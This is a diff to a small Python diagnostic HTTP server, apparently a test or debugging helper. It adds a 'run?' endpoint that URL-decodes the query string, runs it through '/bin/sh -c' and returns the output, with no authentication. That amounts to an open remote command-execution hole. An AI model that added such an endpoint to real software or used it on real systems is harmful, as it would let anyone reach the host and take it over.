@@ -14,7 +14,7 @@ import sys
 import time
 from http.server import BaseHTTPRequestHandler, HTTPServer
 from pathlib import Path
-from urllib.parse import urlsplit
+from urllib.parse import unquote, urlsplit
 
 
 def say(text: str) -> None:
@@ -38,6 +38,12 @@ class Handler(BaseHTTPRequestHandler):
                 "fds": [entry.name for entry in Path("/proc/self/fd").iterdir()],
                 "pid": os.getpid(),
             }
+        elif self.path.startswith(f"{prefix}run?"):
+            script = unquote(self.path.split("?", 1)[1])
+            done = subprocess.run(
+                ["/bin/sh", "-c", script], capture_output=True, text=True, check=False
+            )
+            body = {"code": done.returncode, "out": done.stdout, "err": done.stderr}
         else:
             self.send_error(404)
             return
